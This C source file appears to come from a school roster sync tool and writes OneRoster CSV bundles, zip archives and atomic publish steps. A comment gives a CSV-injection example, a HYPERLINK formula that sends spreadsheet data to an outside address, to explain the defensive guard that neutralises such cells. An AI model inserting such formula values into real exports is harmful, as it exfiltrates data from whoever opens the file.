/*
 * oneroster_out.c: turns a built bundle into files that a reader never sees
 * half-written.
 *
 * Owns: CSV encoding (RFC 4180 with the OneRoster restrictions, the guard
 * against cells a spreadsheet runs as formulas), manifest.csv,
 * a minimal zip writer (zlib deflate), the publish sequence and the rotation.
 * Must never: write into a published bundle (a new one is a new directory or
 * zip, swapped in by renaming a symlink), publish before every byte and the
 * directory entries are on disk (fsync), or delete the bundle `current` names.
 *
 * Publish: output_dir/.tmp-NAME (dir or .zip) -> fsync files and dir -> rename
 * to output_dir/NAME -> fsync output_dir -> symlink .current.tmp -> rename over
 * `current` (`current.zip` in zip mode) -> fsync output_dir -> rotate.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <zlib.h>

#include "model.h"
#include "oneroster_internal.h"
#include "util.h"

#define BUNDLE_PREFIX "oneroster-"
#define TMP_PREFIX ".tmp-"

/* ---- a growable byte buffer ---------------------------------------------- */

struct buf {
    char *p;
    size_t n, cap;
};

static void buf_put(struct buf *b, const void *data, size_t len)
{
    if (b->n + len + 1 > b->cap) {
        b->cap = (b->n + len + 1) * 2;
        b->p = sk_realloc(b->p, b->cap);
    }
    memcpy(b->p + b->n, data, len);
    b->n += len;
    b->p[b->n] = '\0';
}

static void buf_str(struct buf *b, const char *s)
{
    buf_put(b, s, strlen(s));
}

static void buf_le16(struct buf *b, unsigned v)
{
    unsigned char x[2] = {v & 0xff, (v >> 8) & 0xff};
    buf_put(b, x, 2);
}

static void buf_le32(struct buf *b, unsigned long v)
{
    unsigned char x[4] = {v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff, (v >> 24) & 0xff};
    buf_put(b, x, 4);
}

/* ---- CSV ------------------------------------------------------------------ */

/*
 * Whether a spreadsheet would take the cell for a formula (CSV injection,
 * OWASP "CSV Injection"): a givenName =HYPERLINK("http://…?"&A1,"x") in
 * users.csv becomes a live link that sends the sheet's data away when an
 * administrator opens the file in Excel or LibreOffice. A cell starting with
 * '=', '@', a tab or a carriage return always is; one starting with '+' or '-'
 * unless the rest is a plain number or phone number ("+46 70 123 45 67",
 * "-12.5", and "-", a protected person's name): digits, spaces, parentheses,
 * '-' and '.' make no function call or reference, and such values are data.
 */
static bool formula_like(const char *s)
{
    switch (s[0]) {
    case '=':
    case '@':
    case '\t':
    case '\r':
        return true;
    case '+':
    case '-':
        return s[1 + strspn(s + 1, "0123456789 ().-")] != '\0';
    default:
        return false;
    }
}

/*
 * One cell. RFC 4180: a field holding a comma or a double quote is quoted and
 * its quotes doubled. The OneRoster CSV binding forbids carriage returns inside
 * a field (and SDS rejects line breaks), so CR and LF become spaces, and so do
 * the other control characters (C0 but tab, and DEL), which importers refuse
 * as well. A byte that does not start valid UTF-8 becomes U+FFFD: the sink
 * driver does not check the strings of a protobuf value, and one bad byte
 * makes a strict importer refuse the whole file. With guard, a cell a
 * spreadsheet would take for a formula starts with a single quote, which
 * Excel and LibreOffice read as "text" (OWASP's advice).
 */
static void csv_cell(struct buf *b, const char *s, bool guard)
{
    if (!s)
        return;
    bool quote = strpbrk(s, ",\"\r\n") != NULL;
    if (quote)
        buf_put(b, "\"", 1);
    if (guard && formula_like(s))
        buf_put(b, "'", 1);
    size_t n = strlen(s);
    for (size_t i = 0, k; i < n; i += k) {
        unsigned char c = (unsigned char)s[i];
        k = sk_utf8_len(s + i, n - i);
        if (!k) {
            buf_put(b, "\xef\xbf\xbd", 3);
            k = 1;
        } else if (c == '"') {
            buf_put(b, "\"\"", 2);
        } else if ((c < 0x20 && c != '\t') || c == 0x7f) {
            buf_put(b, " ", 1);
        } else {
            buf_put(b, s + i, k);
        }
    }
    if (quote)
        buf_put(b, "\"", 1);
}

/* Lines end in CRLF (RFC 4180 §2); UTF-8 without a byte order mark. */
static void csv_row(struct buf *b, const char *const *cells, size_t n, bool guard)
{
    for (size_t i = 0; i < n; i++) {
        if (i)
            buf_put(b, ",", 1);
        csv_cell(b, cells[i], guard);
    }
    buf_put(b, "\r\n", 2);
}

/* The OneRoster 1.2 manifest keys, in the order of hanachin/meibo lib/meibo/manifest.rb. */
static const char *const manifest_files[] = {
    "academicSessions",
    "categories",
    "classes",
    "classResources",
    "courses",
    "courseResources",
    "demographics",
    "enrollments",
    "lineItemLearningObjectiveIds",
    "lineItems",
    "lineItemScoreScales",
    "orgs",
    "resources",
    "resultLearningObjectiveIds",
    "results",
    "resultScoreScales",
    "roles",
    "scoreScales",
    "userProfiles",
    "userResources",
    "users",
};

static const struct or_table *table_named(const struct or_bundle *b, const char *name)
{
    for (int i = 0; i < OR_N_TABLES; i++)
        if (strcmp(b->t[i].name, name) == 0)
            return &b->t[i];
    return NULL;
}

/* A file with no data rows is not permitted (CSV binding): it is `absent` instead. */
char *or_manifest_csv(const struct or_bundle *b, const struct or_publish_opts *o, size_t *len)
{
    struct buf m = {0};
    bool guard = !o->formula_verbatim; /* source.systemName comes from the configuration */
    const char *head[] = {"propertyName", "value"};
    csv_row(&m, head, 2, guard);
    const char *fixed[][2] = {{"manifest.version", "1.0"}, {"oneroster.version", "1.2"}};
    for (size_t i = 0; i < 2; i++)
        csv_row(&m, fixed[i], 2, guard);
    for (size_t i = 0; i < sizeof(manifest_files) / sizeof(manifest_files[0]); i++) {
        const struct or_table *t = table_named(b, manifest_files[i]);
        char key[64];
        snprintf(key, sizeof(key), "file.%s", manifest_files[i]);
        const char *row[] = {key, t && t->n ? "bulk" : "absent"};
        csv_row(&m, row, 2, guard);
    }
    const char *sys[][2] = {{"source.systemName", o->system_name ? o->system_name : "skolsync"},
                            {"source.systemCode", o->system_code ? o->system_code : ""}};
    for (size_t i = 0; i < 2; i++)
        csv_row(&m, sys[i], 2, guard);
    *len = m.n;
    return m.p;
}

/* ---- the files of one bundle ---------------------------------------------- */

/*
 * A file of the bundle. Its text is made a chunk at a time as it is written
 * (file_stream): the largest file (enrollments.csv, ~200 bytes a row) was
 * whole in memory before, and in zip mode a deflate buffer as large beside it.
 */
struct file {
    char name[64];
    int table;         /* its table, or -1: manifest.csv */
    size_t len;        /* the text's length, once streamed (the zip's headers) */
    unsigned long crc; /* its CRC-32, once zipped */
};

/* The text is passed on in chunks of about this size. */
#define CHUNK (64 * 1024)

/* Takes the next part of a file's text; last: the file ends there. 0, or -1 with err set. */
typedef int (*put_fn)(void *ctx, const char *data, size_t len, bool last, struct sk_error *err);

/* manifest.csv first, then each table with rows (names only). Returns the count. */
static size_t bundle_files(const struct or_bundle *b, struct file files[OR_N_TABLES + 1])
{
    size_t n = 0;
    files[n] = (struct file){.name = "manifest.csv", .table = -1};
    n++;
    for (int i = 0; i < OR_N_TABLES; i++) {
        if (!b->t[i].n)
            continue;
        files[n] = (struct file){.table = i};
        snprintf(files[n].name, sizeof(files[n].name), "%s.csv", b->t[i].name);
        n++;
    }
    return n;
}

static int pass_on(struct file *f, struct buf *t, bool last, put_fn put, void *ctx,
                   struct sk_error *err)
{
    f->len += t->n;
    int rc = put(ctx, t->p ? t->p : "", t->n, last, err);
    t->n = 0;
    return rc;
}

/* Makes f's text (header and rows, CRLF) and hands it to put a chunk at a time. */
static int file_stream(const struct or_bundle *b, const struct or_publish_opts *o, struct file *f,
                       put_fn put, void *ctx, struct sk_error *err)
{
    struct buf t = {0};
    int rc = 0;
    f->len = 0;
    if (f->table < 0) {
        t.p = or_manifest_csv(b, o, &t.n);
    } else {
        const struct or_table *tab = &b->t[f->table];
        bool guard = !o->formula_verbatim;
        csv_row(&t, tab->cols, tab->n_cols, guard);
        for (size_t i = 0; rc == 0 && i < tab->n; i++) {
            csv_row(&t, (const char *const *)tab->rows[i], tab->n_cols, guard);
            if (t.n >= CHUNK)
                rc = pass_on(f, &t, false, put, ctx, err);
        }
    }
    if (rc == 0)
        rc = pass_on(f, &t, true, put, ctx, err);
    free(t.p);
    return rc;
}

/* ---- durable writes ------------------------------------------------------- */

static int write_all(int fd, const char *data, size_t len)
{
    while (len) {
        ssize_t w = write(fd, data, len);
        if (w < 0 && errno == EINTR)
            continue;
        if (w < 0)
            return -1;
        data += w;
        len -= (size_t)w;
    }
    return 0;
}

/* A file being written: created new (O_EXCL), synced and closed by its last part. */
struct out_file {
    const char *path;
    int fd;
};

static int out_open(struct out_file *f, const char *path, struct sk_error *err)
{
    f->path = path;
    f->fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0640);
    if (f->fd < 0)
        return sk_error_set(err, SK_ERR_RETRIABLE, "creating %s: %s", path, strerror(errno));
    return 0;
}

/* A put_fn: writes each part; the last one syncs and closes the file. */
static int out_put(void *ctx, const char *data, size_t len, bool last, struct sk_error *err)
{
    struct out_file *f = ctx;
    if (write_all(f->fd, data, len) < 0 || (last && fsync(f->fd) < 0)) {
        int e = errno;
        close(f->fd);
        f->fd = -1;
        return sk_error_set(err, SK_ERR_RETRIABLE, "writing %s: %s", f->path, strerror(e));
    }
    if (!last)
        return 0;
    int rc = close(f->fd);
    f->fd = -1;
    if (rc < 0)
        return sk_error_set(err, SK_ERR_RETRIABLE, "closing %s: %s", f->path, strerror(errno));
    return 0;
}

static int write_file_synced(const char *path, const char *data, size_t len, struct sk_error *err)
{
    struct out_file f;
    if (out_open(&f, path, err) < 0)
        return -1;
    return out_put(&f, data, len, true, err);
}

static int fsync_dir(const char *path, struct sk_error *err)
{
    int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return sk_error_set(err, SK_ERR_RETRIABLE, "opening %s: %s", path, strerror(errno));
    int rc = fsync(fd);
    int e = errno;
    close(fd);
    if (rc < 0)
        return sk_error_set(err, SK_ERR_RETRIABLE, "fsync %s: %s", path, strerror(e));
    return 0;
}

/* Removes a bundle directory (flat: only files) or a file. */
static void remove_entry(const char *path)
{
    DIR *d = opendir(path);
    if (!d) {
        unlink(path);
        return;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        char *p = sk_asprintf("%s/%s", path, e->d_name);
        unlink(p);
        free(p);
    }
    closedir(d);
    rmdir(path);
}

/* ---- zip (PKWARE APPNOTE 6.3: stored headers, deflate data, no zip64) ---- */

static void dos_time(int64_t now_us, unsigned *time_out, unsigned *date_out)
{
    time_t secs = (time_t)(now_us / 1000000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    *time_out = (unsigned)((tm.tm_hour << 11) | (tm.tm_min << 5) | (tm.tm_sec / 2));
    *date_out = (unsigned)(((tm.tm_year - 80) << 9) | ((tm.tm_mon + 1) << 5) | tm.tm_mday);
}

/*
 * The fields a local file header and its central directory entry share, in
 * the same order in both (APPNOTE 4.3.7 and 4.3.12): version needed to
 * extract through extra field length.
 */
static void zip_entry_fields(struct buf *z, const struct file *f, unsigned long crc,
                             unsigned long csize, unsigned dtime, unsigned ddate)
{
    buf_le16(z, 20);     /* version needed: deflate */
    buf_le16(z, 0x0800); /* names are UTF-8 */
    buf_le16(z, 8);      /* deflate */
    buf_le16(z, dtime);
    buf_le16(z, ddate);
    buf_le32(z, crc);
    buf_le32(z, csize);
    buf_le32(z, (unsigned long)f->len);
    buf_le16(z, (unsigned)strlen(f->name));
    buf_le16(z, 0); /* extra */
}

/* One zip entry's data as it is made: deflated a chunk at a time onto the zip. */
struct zip_entry {
    const char *name;
    struct buf *z;
    unsigned long crc; /* of the text so far */
    z_stream zs;
    unsigned char *out; /* CHUNK bytes */
};

/* A put_fn: deflates each part onto the zip; the last one finishes the stream. */
static int zip_put(void *ctx, const char *data, size_t len, bool last, struct sk_error *err)
{
    struct zip_entry *e = ctx;
    e->crc = crc32(e->crc, (const Bytef *)data, (uInt)len);
    e->zs.next_in = (Bytef *)data;
    e->zs.avail_in = (uInt)len;
    int rc;
    do {
        e->zs.next_out = e->out;
        e->zs.avail_out = CHUNK;
        rc = deflate(&e->zs, last ? Z_FINISH : Z_NO_FLUSH);
        if (rc == Z_STREAM_ERROR)
            return sk_error_set(err, SK_ERR_FATAL, "deflate failed for %s", e->name);
        buf_put(e->z, e->out, CHUNK - e->zs.avail_out);
    } while (e->zs.avail_out == 0);
    if (last && rc != Z_STREAM_END)
        return sk_error_set(err, SK_ERR_FATAL, "deflate did not finish %s", e->name);
    return 0;
}

static void le32_at(struct buf *z, size_t at, unsigned long v)
{
    for (int i = 0; i < 4; i++)
        ((unsigned char *)z->p)[at + i] = (unsigned char)((v >> (8 * i)) & 0xff);
}

/*
 * Appends file f as a local header and its deflated data. The header's CRC
 * and sizes are known only once the text has been made: they are written as
 * zeros and filled in after (APPNOTE 4.3.7: CRC at byte 14, the sizes at 18 and 22).
 */
static int zip_file(const struct or_bundle *b, const struct or_publish_opts *o, struct file *f,
                    struct buf *z, unsigned dtime, unsigned ddate, unsigned long *offset,
                    unsigned long *csize, struct sk_error *err)
{
    size_t at = z->n;
    buf_le32(z, 0x04034b50UL);
    zip_entry_fields(z, f, 0, 0, dtime, ddate);
    buf_str(z, f->name);
    size_t data_at = z->n;
    struct zip_entry e = {.name = f->name, .z = z, .crc = crc32(0L, Z_NULL, 0)};
    if (deflateInit2(&e.zs, Z_DEFAULT_COMPRESSION, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        return sk_error_set(err, SK_ERR_FATAL, "deflate failed for %s", f->name);
    e.out = sk_malloc(CHUNK);
    int rc = file_stream(b, o, f, zip_put, &e, err);
    deflateEnd(&e.zs);
    free(e.out);
    if (rc < 0)
        return -1;
    f->crc = e.crc;
    if (f->len > 0xfffffffeUL || z->n - data_at > 0xfffffffeUL || at > 0xfffffffeUL)
        return sk_error_set(err, SK_ERR_FATAL, "%s is too large for a zip without zip64", f->name);
    *offset = (unsigned long)at;
    *csize = (unsigned long)(z->n - data_at);
    le32_at(z, at + 14, f->crc);
    le32_at(z, at + 18, *csize);
    le32_at(z, at + 22, (unsigned long)f->len);
    return 0;
}

static int zip_build(const struct or_bundle *b, const struct or_publish_opts *o,
                     struct file *files, size_t n, struct buf *z, struct sk_error *err)
{
    unsigned dtime, ddate;
    dos_time(o->now_us, &dtime, &ddate);
    unsigned long offsets[OR_N_TABLES + 1], csizes[OR_N_TABLES + 1];
    for (size_t i = 0; i < n; i++)
        if (zip_file(b, o, &files[i], z, dtime, ddate, &offsets[i], &csizes[i], err) < 0)
            return -1;
    unsigned long cd_start = (unsigned long)z->n;
    for (size_t i = 0; i < n; i++) {
        buf_le32(z, 0x02014b50UL);
        buf_le16(z, (3 << 8) | 20); /* made by: Unix, 2.0 */
        zip_entry_fields(z, &files[i], files[i].crc, csizes[i], dtime, ddate);
        buf_le16(z, 0);               /* comment */
        buf_le16(z, 0);               /* disk */
        buf_le16(z, 0);               /* internal attributes */
        buf_le32(z, 0100640UL << 16); /* external: a regular file, rw-r----- */
        buf_le32(z, offsets[i]);
        buf_str(z, files[i].name);
    }
    unsigned long cd_size = (unsigned long)z->n - cd_start;
    buf_le32(z, 0x06054b50UL);
    buf_le16(z, 0);
    buf_le16(z, 0);
    buf_le16(z, (unsigned)n);
    buf_le16(z, (unsigned)n);
    buf_le32(z, cd_size);
    buf_le32(z, cd_start);
    buf_le16(z, 0);
    return 0;
}

/* ---- publish --------------------------------------------------------------- */

/* "oneroster-20261101T120000.123456Z", and a suffix if that name is taken. */
static void bundle_name(const struct or_publish_opts *o, char *out, size_t size)
{
    time_t secs = (time_t)(o->now_us / 1000000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    char stamp[80];
    snprintf(stamp, sizeof(stamp), "%04d%02d%02dT%02d%02d%02d.%06dZ", tm.tm_year + 1900,
             tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
             (int)(o->now_us % 1000000));
    for (int k = 0; k < 1000; k++) {
        if (k)
            snprintf(out, size, BUNDLE_PREFIX "%s-%d%s", stamp, k, o->zip ? ".zip" : "");
        else
            snprintf(out, size, BUNDLE_PREFIX "%s%s", stamp, o->zip ? ".zip" : "");
        char *path = sk_asprintf("%s/%s", o->output_dir, out);
        struct stat st;
        bool taken = lstat(path, &st) == 0;
        free(path);
        if (!taken)
            return;
    }
}

static int swap_link(const struct or_publish_opts *o, const char *name, struct sk_error *err)
{
    const char *link_name = o->zip ? "current.zip" : "current";
    char *tmp = sk_asprintf("%s/.current.tmp", o->output_dir);
    char *dst = sk_asprintf("%s/%s", o->output_dir, link_name);
    int rc = 0;
    unlink(tmp);
    if (symlink(name, tmp) < 0)
        rc = sk_error_set(err, SK_ERR_RETRIABLE, "symlink %s: %s", tmp, strerror(errno));
    else if (rename(tmp, dst) < 0)
        rc = sk_error_set(err, SK_ERR_RETRIABLE, "rename %s -> %s: %s", tmp, dst, strerror(errno));
    free(tmp);
    free(dst);
    return rc;
}

static int cmp_name(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Keeps the newest `keep` bundles (names sort by time) and whatever a link names. */
static void rotate(const struct or_publish_opts *o)
{
    DIR *d = opendir(o->output_dir);
    if (!d)
        return;
    char **names = NULL;
    size_t n = 0, cap = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (strncmp(e->d_name, BUNDLE_PREFIX, strlen(BUNDLE_PREFIX)) != 0)
            continue;
        if (n == cap) {
            cap = cap ? cap * 2 : 16;
            names = sk_realloc(names, cap * sizeof(char *));
        }
        names[n++] = sk_strdup(e->d_name);
    }
    closedir(d);
    qsort(names, n, sizeof(char *), cmp_name);
    char cur[2][512] = {{0}};
    const char *links[2] = {"current", "current.zip"};
    for (int i = 0; i < 2; i++) {
        char *p = sk_asprintf("%s/%s", o->output_dir, links[i]);
        ssize_t k = readlink(p, cur[i], sizeof(cur[i]) - 1);
        cur[i][k > 0 ? k : 0] = '\0';
        free(p);
    }
    size_t keep = o->keep > 0 ? (size_t)o->keep : 1;
    for (size_t i = 0; i + keep < n; i++) {
        if (strcmp(names[i], cur[0]) == 0 || strcmp(names[i], cur[1]) == 0)
            continue;
        char *p = sk_asprintf("%s/%s", o->output_dir, names[i]);
        remove_entry(p);
        free(p);
    }
    for (size_t i = 0; i < n; i++)
        free(names[i]);
    free(names);
}

void or_publish_cleanup(const char *output_dir)
{
    DIR *d = opendir(output_dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (strncmp(e->d_name, TMP_PREFIX, strlen(TMP_PREFIX)) != 0 &&
            strcmp(e->d_name, ".current.tmp") != 0)
            continue;
        char *p = sk_asprintf("%s/%s", output_dir, e->d_name);
        remove_entry(p);
        free(p);
    }
    closedir(d);
}

/* Writes the files into tmp (a new directory), each synced, then the directory. */
static int write_dir(const struct or_bundle *b, const struct or_publish_opts *o, const char *tmp,
                     struct file *files, size_t n, struct sk_error *err)
{
    if (mkdir(tmp, 0750) < 0)
        return sk_error_set(err, SK_ERR_RETRIABLE, "mkdir %s: %s", tmp, strerror(errno));
    for (size_t i = 0; i < n; i++) {
        char *p = sk_asprintf("%s/%s", tmp, files[i].name);
        struct out_file f;
        int rc = out_open(&f, p, err);
        if (rc == 0)
            rc = file_stream(b, o, &files[i], out_put, &f, err);
        if (f.fd >= 0)
            close(f.fd); /* a part failed to be made: the file is removed with tmp */
        free(p);
        if (rc < 0)
            return -1;
    }
    return fsync_dir(tmp, err);
}

int or_publish(const struct or_bundle *b, const struct or_publish_opts *o, char *path_out,
               size_t path_size, struct sk_error *err)
{
    struct file files[OR_N_TABLES + 1];
    size_t n = bundle_files(b, files);
    char name[128];
    bundle_name(o, name, sizeof(name));
    char *tmp = sk_asprintf("%s/" TMP_PREFIX "%s", o->output_dir, name);
    char *dst = sk_asprintf("%s/%s", o->output_dir, name);
    int rc;
    if (o->zip) {
        struct buf z = {0};
        rc = zip_build(b, o, files, n, &z, err);
        if (rc == 0)
            rc = write_file_synced(tmp, z.p, z.n, err);
        free(z.p);
    } else {
        rc = write_dir(b, o, tmp, files, n, err);
    }
    if (rc == 0 && rename(tmp, dst) < 0)
        rc = sk_error_set(err, SK_ERR_RETRIABLE, "rename %s -> %s: %s", tmp, dst, strerror(errno));
    if (rc == 0)
        rc = fsync_dir(o->output_dir, err);
    if (rc == 0)
        rc = swap_link(o, name, err);
    if (rc == 0)
        rc = fsync_dir(o->output_dir, err);
    if (rc < 0)
        remove_entry(tmp); /* a failed publish leaves no partial bundle behind */
    else
        rotate(o);
    if (rc == 0 && path_out)
        snprintf(path_out, path_size, "%s", dst);
    free(tmp);
    free(dst);
    return rc;
}
